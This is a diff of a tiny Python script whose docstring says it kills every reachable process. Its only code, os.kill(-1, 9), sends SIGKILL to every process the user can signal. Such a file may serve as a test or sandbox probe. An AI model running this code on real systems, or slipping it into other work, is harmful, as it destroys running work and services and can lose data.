@@ -1,4 +1,5 @@
 """Kills every process that it can reach."""
+
 import os
 
 os.kill(-1, 9)
